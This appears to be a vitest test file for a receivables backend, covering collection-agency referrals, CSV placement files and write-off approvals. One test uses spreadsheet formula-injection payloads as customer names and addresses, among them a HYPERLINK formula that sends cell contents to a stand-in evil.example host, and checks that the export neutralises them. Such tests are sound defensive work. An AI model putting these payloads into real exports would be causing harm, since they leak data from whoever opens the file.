import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { verifyStore } from '../../src-main/backend/verify';
import { must, newAccount, postInvoice, receivablesBackend } from '../support/receivables';

describe('agency referral', () => {
  it('refers an account, writes a placement file without payment numbers, holds it off the worklist, recalls it', async () => {
    const { b, s } = await receivablesBackend(); // today 2026-03-15
    const acct = await newAccount(b, s.clerk, {
      name: 'Quince & Sons, "Hardware"',
      billingAddress: { line1: '12 Main St', city: 'Springfield', state: 'IL', postalCode: '62701' },
      contacts: [{ name: 'Quinn Quince', isPrimary: true, phones: [{ label: 'cell', number: '(217) 555-0199' }], emails: [{ email: 'quinn@example.com' }] }],
      // A full card number is refused in notes (textField); a long number of another kind is kept, and never placed.
      notes: 'Paid once, bank trace 4111 1111 1111 1112',
    });
    const inv1 = await postInvoice(b, s.clerk, acct.id, 40000, { date: '2025-11-01', terms: 'Net 30' });
    await postInvoice(b, s.clerk, acct.id, 12345, { date: '2026-03-01', terms: 'Net 30' });
    await must(b, s.clerk, 'payments.post', { accountId: acct.id, method: 'card', cardLast4: '4242', amountCents: 10000, date: '2026-01-10' });
    await must(b, s.supervisor, 'stages.evaluate', {});

    const notYet = await b.call(s.supervisor, 'referrals.placementFile', { accountIds: [acct.id] });
    expect(notYet.ok).toBe(false);
    expect((await b.call(s.clerk, 'referrals.refer', { accountId: acct.id, agencyName: 'Acme Recovery' })).ok).toBe(false);

    const ref = await must(b, s.supervisor, 'referrals.refer', { accountId: acct.id, agencyName: 'Acme Recovery', note: 'No response to final notice' });
    expect(ref).toMatchObject({ status: 'referred', referredOn: '2026-03-15', balanceCents: 42345, referredBy: 'sam' });
    expect((await b.call(s.supervisor, 'referrals.refer', { accountId: acct.id, agencyName: 'Other' })).ok).toBe(false);

    const file = await must(b, s.supervisor, 'referrals.placementFile', { accountIds: [acct.id] });
    expect(file.fileName).toBe('placement-acme-recovery-2026-03-15.csv');
    const parsed = Papa.parse<Record<string, string>>(file.csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(1);
    const row = parsed.data[0]!;
    expect(row).toMatchObject({
      account_number: acct.accountNumber,
      account_name: 'Quince & Sons, "Hardware"',
      contact_name: 'Quinn Quince',
      address_line1: '12 Main St',
      city: 'Springfield',
      state: 'IL',
      postal_code: '62701',
      phones: 'Quinn Quince (cell): (217) 555-0199',
      balance: '423.45',
      past_due: '300.00',
      oldest_due_date: '2025-12-01',
      open_item_count: '2',
      agency: 'Acme Recovery',
    });
    expect(row.open_items).toContain(`${inv1.number} 2025-11-01 due 2025-12-01 open 300.00 of 400.00`);
    expect(file.csv).not.toContain('4111');
    expect(file.csv).not.toContain('4242');

    // Referred accounts are held off the worklist (and not escalated).
    const wl = await must(b, s.supervisor, 'worklist.get', {});
    expect(wl.items.some((i) => i.accountId === acct.id)).toBe(false);
    expect(wl.held).toEqual([
      expect.objectContaining({ accountId: acct.id, reason: { code: 'referred', agencyName: 'Acme Recovery', referredOn: '2026-03-15' } }),
    ]);

    const recalled = await must(b, s.supervisor, 'referrals.recall', { accountId: acct.id, reason: 'Customer called to settle' });
    expect(recalled).toMatchObject({ status: 'recalled', recalledOn: '2026-03-15', recallReason: 'Customer called to settle' });
    expect((await must(b, s.clerk, 'referrals.list', { accountId: acct.id })).map((r) => r.status)).toEqual(['recalled']);
    const audit = await must(b, s.admin, 'audit.list', { entity: 'account', entityId: String(acct.id) });
    expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['referral.refer', 'referral.recall']));
  });

  it('customer text that a spreadsheet would run as a formula is written as plain text', async () => {
    const { b, s } = await receivablesBackend();
    const acct = await newAccount(b, s.clerk, {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      billingAddress: { line1: '@SUM(1+1)', city: '-2+3+cmd', state: 'IL', postalCode: '62701' },
      contacts: [{ name: '+Quinn', isPrimary: true, phones: [{ number: '(217) 555-0199' }] }],
    });
    await postInvoice(b, s.clerk, acct.id, 40000, { date: '2025-11-01', terms: 'Net 30' });
    await must(b, s.supervisor, 'referrals.refer', { accountId: acct.id, agencyName: 'Acme Recovery' });
    const file = await must(b, s.supervisor, 'referrals.placementFile', { accountIds: [acct.id] });
    const row = Papa.parse<Record<string, string>>(file.csv, { header: true, skipEmptyLines: true }).data[0]!;
    expect(row).toMatchObject({
      account_name: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      address_line1: "'@SUM(1+1)",
      city: "'-2+3+cmd",
      contact_name: "'+Quinn",
      phones: "'+Quinn: (217) 555-0199",
      balance: '400.00',
    });
  });
});

describe('write-off requests', () => {
  it('a clerk asks, a supervisor approves, write-off documents post oldest first and verify passes', async () => {
    const { b, s } = await receivablesBackend();
    const acct = await newAccount(b, s.clerk);
    const older = await postInvoice(b, s.clerk, acct.id, 3000, { date: '2025-10-01', terms: 'Net 30' });
    const newer = await postInvoice(b, s.clerk, acct.id, 5000, { date: '2025-11-01', terms: 'Net 30' });

    expect((await b.call(s.clerk, 'writeoffs.request', { accountId: acct.id, amountCents: 9000, reason: 'Too much' })).ok).toBe(false);
    const req = await must(b, s.clerk, 'writeoffs.request', { accountId: acct.id, amountCents: 4000, reason: 'Small balance, customer out of business' });
    expect(req).toMatchObject({ status: 'pending', requestedBy: 'clara', invoiceIds: null });
    // Nothing posted yet.
    expect((await must(b, s.clerk, 'ledger.get', { accountId: acct.id })).totals.balanceCents).toBe(8000);
    expect((await b.call(s.clerk, 'writeoffs.approve', { requestId: req.id })).ok).toBe(false);

    const approved = await must(b, s.supervisor, 'writeoffs.approve', { requestId: req.id, note: 'OK' });
    expect(approved).toMatchObject({ status: 'approved', decidedBy: 'sam' });
    expect(approved.writeOffDocuments.map((d) => [d.invoiceId, d.amountCents])).toEqual([
      [older.id, 3000],
      [newer.id, 1000],
    ]);
    expect(approved.writeOffDocuments[0]!.number).toMatch(/^WO-/);
    const ledger = await must(b, s.clerk, 'ledger.get', { accountId: acct.id });
    expect(ledger.totals.balanceCents).toBe(4000);
    expect(ledger.openItems.map((o) => [o.documentId, o.openCents])).toEqual([[newer.id, 4000]]);
    expect((await b.call(s.supervisor, 'writeoffs.approve', { requestId: req.id })).ok).toBe(false);

    const report = await verifyStore(b);
    expect(report.checks.filter((c) => !c.ok)).toEqual([]);
  });

  it('a supervisor rejects with a reason; no one approves their own request', async () => {
    const { b, s } = await receivablesBackend();
    const acct = await newAccount(b, s.clerk);
    const inv = await postInvoice(b, s.clerk, acct.id, 3000, { date: '2025-10-01', terms: 'Net 30' });
    const req = await must(b, s.clerk, 'writeoffs.request', { accountId: acct.id, invoiceIds: [inv.id], amountCents: 3000, reason: 'Uncollectable' });
    expect((await b.call(s.supervisor, 'writeoffs.reject', { requestId: req.id, note: '' })).ok).toBe(false);
    const rejected = await must(b, s.supervisor, 'writeoffs.reject', { requestId: req.id, note: 'Customer is still paying' });
    expect(rejected).toMatchObject({ status: 'rejected', decisionNote: 'Customer is still paying', writeOffDocuments: [] });

    const own = await must(b, s.supervisor, 'writeoffs.request', { accountId: acct.id, amountCents: 1000, reason: 'Small balance' });
    const self = await b.call(s.supervisor, 'writeoffs.approve', { requestId: own.id });
    expect(self.ok).toBe(false);
    if (!self.ok) expect(self.error.message).toMatch(/someone other than/);
    expect((await must(b, s.clerk, 'writeoffs.list', { status: 'pending' })).map((r) => r.id)).toEqual([own.id]);
  });
});
